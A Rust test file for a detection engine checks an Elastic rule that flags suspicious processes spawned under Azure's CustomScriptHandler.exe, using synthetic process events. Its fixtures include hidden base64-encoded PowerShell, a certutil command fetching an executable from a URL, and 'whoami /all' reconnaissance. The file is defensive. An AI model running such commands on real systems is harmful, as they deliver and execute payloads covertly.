//! The PR #6277 Windows rule ("Suspicious Child Process via Azure VM CustomScript Extension"),
//! verbatim from `../shared/upstream/elastic/seed/`, lowered and run by the executor over
//! endpoint process events written here: a LOLBin or suspicious PowerShell anywhere below
//! `CustomScriptHandler.exe` within a minute is a match (the `by process.Ext.ancestry` key expands
//! to every ancestor, so it meets the handler's `process.entity_id`); the same PowerShell under
//! explorer.exe, a benign child of the handler, or a child after more than a minute is not.

use std::path::PathBuf;

use vigil_event::{Layout, Projection, Row, parse_json};
use vigil_exec::{EvalContext, compile};
use vigil_plan::Plan;
use vigil_schema::Schema;

fn shared_dir() -> Option<PathBuf> {
    let dir = std::env::var_os("VIGIL_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared"));
    dir.is_dir().then_some(dir)
}

fn rule_plan() -> Option<Plan> {
    let path = shared_dir()?.join(
        "upstream/elastic/seed/execution_azure_customscript_extension_suspicious_descendant.toml",
    );
    let text = std::fs::read_to_string(&path).ok()?;
    let doc: toml::Table = toml::from_str(&text).expect("rule TOML");
    let rule = doc["rule"].as_table().expect("[rule]");
    assert_eq!(rule["language"].as_str(), Some("eql"));
    let indices: Vec<String> = rule["index"]
        .as_array()
        .expect("index")
        .iter()
        .filter_map(|v| v.as_str().map(String::from))
        .collect();
    let query = rule["query"].as_str().expect("query");
    Some(
        vigil_eql::lower_rule_query(query, &indices, Schema::elastic(), None, None, None)
            .expect("the seed rule lowers"),
    )
}

const HANDLER_PATH: &str = r"C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\bin\\CustomScriptHandler.exe";

/// An Elastic Defend process start event.
#[allow(clippy::too_many_arguments)]
fn start(
    at: &str,
    host: &str,
    entity: &str,
    ancestry: &[&str],
    name: Option<&str>,
    exe: &str,
    cmd: &str,
    args: &[&str],
) -> String {
    let ancestry: Vec<String> = ancestry.iter().map(|a| format!("\"{a}\"")).collect();
    let args: Vec<String> = args.iter().map(|a| format!("\"{a}\"")).collect();
    let name = name
        .map(|n| format!("\"name\": \"{n}\", "))
        .unwrap_or_default();
    format!(
        r#"{{"@timestamp": "{at}", "event": {{"category": ["process"], "type": ["start"], "kind": "event"}},
            "host": {{"id": "{host}", "name": "{host}", "os": {{"type": "windows"}}}},
            "process": {{{name}"entity_id": "{entity}", "executable": "{exe}", "command_line": "{cmd}",
                        "args": [{}], "Ext": {{"ancestry": [{}]}}}}}}"#,
        args.join(", "),
        ancestry.join(", ")
    )
}

fn handler(at: &str, host: &str, entity: &str, with_name: bool) -> String {
    start(
        at,
        host,
        entity,
        &["waagent-1", "services-1"],
        with_name.then_some("CustomScriptHandler.exe"),
        HANDLER_PATH,
        r"C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\bin\\CustomScriptHandler.exe /enable",
        &[HANDLER_PATH, "/enable"],
    )
}

fn powershell(at: &str, host: &str, entity: &str, ancestry: &[&str], cmd: &str) -> String {
    start(
        at,
        host,
        entity,
        ancestry,
        Some("powershell.exe"),
        r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        cmd,
        &["powershell.exe", cmd],
    )
}

/// Runs the rule; returns the entity ids of each matching sequence's events.
fn matches(plan: &Plan, docs: &[String]) -> Vec<Vec<String>> {
    let mut layout = Layout::new();
    for f in plan.fields_read() {
        layout.intern(&f);
    }
    let entity = layout.intern("process.entity_id");
    let compiled = compile(plan, &layout).expect("compiles");
    let projection = Projection::new(&layout);
    let rows: Vec<Row> = docs
        .iter()
        .map(|d| projection.project(&parse_json(d.as_bytes()).expect("event JSON")))
        .collect();
    let out = compiled.run(
        rows.iter().enumerate(),
        &EvalContext::new(jiff::Timestamp::now()),
    );
    out.rows
        .iter()
        .map(|r| {
            r.members
                .iter()
                .map(|&m| {
                    rows[m]
                        .get(entity)
                        .map(ToString::to_string)
                        .unwrap_or_default()
                })
                .collect()
        })
        .collect()
}

#[test]
fn lolbin_or_suspicious_powershell_below_the_handler_within_a_minute() {
    let Some(plan) = rule_plan() else {
        println!("SKIP seed CustomScript rule: ../shared not found (set VIGIL_SHARED)");
        return;
    };
    let h = "vm-1";
    // The handler (by name), a cmd.exe child, and an encoded PowerShell grandchild 20 s later.
    let by_name = vec![
        handler("2026-06-17T10:00:00Z", h, "HANDLER", true),
        start(
            "2026-06-17T10:00:05Z",
            h,
            "CMD",
            &["HANDLER", "waagent-1", "services-1"],
            Some("cmd.exe"),
            r"C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c run.cmd",
            &["cmd.exe", "/c", "run.cmd"],
        ),
        powershell(
            "2026-06-17T10:00:20Z",
            h,
            "PS",
            &["CMD", "HANDLER", "waagent-1", "services-1"],
            "powershell.exe -w hidden -enc SQBFAFgA",
        ),
    ];
    assert_eq!(matches(&plan, &by_name), vec![vec!["HANDLER", "PS"]]);

    // The handler matched by its path alone (no process.name), a whoami.exe child.
    let by_path = vec![
        handler("2026-06-17T10:00:00Z", h, "HANDLER", false),
        start(
            "2026-06-17T10:00:30Z",
            h,
            "WHOAMI",
            &["HANDLER", "waagent-1"],
            Some("whoami.exe"),
            r"C:\\Windows\\System32\\whoami.exe",
            "whoami /all",
            &["whoami", "/all"],
        ),
    ];
    assert_eq!(matches(&plan, &by_path), vec![vec!["HANDLER", "WHOAMI"]]);

    // certutil needs a suspicious argument.
    let certutil = |args: &[&str]| {
        vec![
            handler("2026-06-17T10:00:00Z", h, "HANDLER", true),
            start(
                "2026-06-17T10:00:10Z",
                h,
                "CERTUTIL",
                &["HANDLER"],
                Some("certutil.exe"),
                r"C:\\Windows\\System32\\certutil.exe",
                &args.join(" "),
                args,
            ),
        ]
    };
    assert_eq!(
        matches(
            &plan,
            &certutil(&["certutil.exe", "-urlcache", "-f", "http://x/a.exe"])
        )
        .len(),
        1
    );
    assert!(matches(&plan, &certutil(&["certutil.exe", "-hashfile", "a.exe"])).is_empty());
}

#[test]
fn quiet_outside_the_handler_tree_for_benign_children_and_after_a_minute() {
    let Some(plan) = rule_plan() else {
        println!("SKIP seed CustomScript rule: ../shared not found (set VIGIL_SHARED)");
        return;
    };
    let h = "vm-1";
    let handler_event = handler("2026-06-17T10:00:00Z", h, "HANDLER", true);
    let explorer = start(
        "2026-06-17T10:00:01Z",
        h,
        "EXPLORER",
        &["userinit-1", "winlogon-1"],
        Some("explorer.exe"),
        r"C:\\Windows\\explorer.exe",
        "explorer.exe",
        &["explorer.exe"],
    );

    // The same encoded PowerShell, but under explorer.exe (not below the handler).
    let under_explorer = vec![
        handler_event.clone(),
        explorer.clone(),
        powershell(
            "2026-06-17T10:00:20Z",
            h,
            "PS",
            &["EXPLORER", "userinit-1", "winlogon-1"],
            "powershell.exe -w hidden -enc SQBFAFgA",
        ),
    ];
    assert!(matches(&plan, &under_explorer).is_empty());

    // A benign child of the handler: PowerShell running a plain script.
    let benign = vec![
        handler_event.clone(),
        powershell(
            "2026-06-17T10:00:20Z",
            h,
            "PS",
            &["HANDLER", "waagent-1"],
            r"powershell.exe -ExecutionPolicy Unrestricted -File C:\\Packages\\Plugins\\Microsoft.Compute.CustomScriptExtension\\1.10.15\\Downloads\\0\\setup.ps1",
        ),
    ];
    assert!(matches(&plan, &benign).is_empty());

    // The suspicious child 61 seconds after the handler: beyond maxspan.
    let late = vec![
        handler_event.clone(),
        powershell(
            "2026-06-17T10:01:01Z",
            h,
            "PS",
            &["HANDLER", "waagent-1"],
            "powershell.exe -enc SQBFAFgA",
        ),
    ];
    assert!(matches(&plan, &late).is_empty());

    // Same entity ids on another host: the sequence is per host.
    let other_host = vec![
        handler_event,
        powershell(
            "2026-06-17T10:00:20Z",
            "vm-2",
            "PS",
            &["HANDLER"],
            "powershell.exe -enc SQBFAFgA",
        ),
    ];
    assert!(matches(&plan, &other_host).is_empty());
}
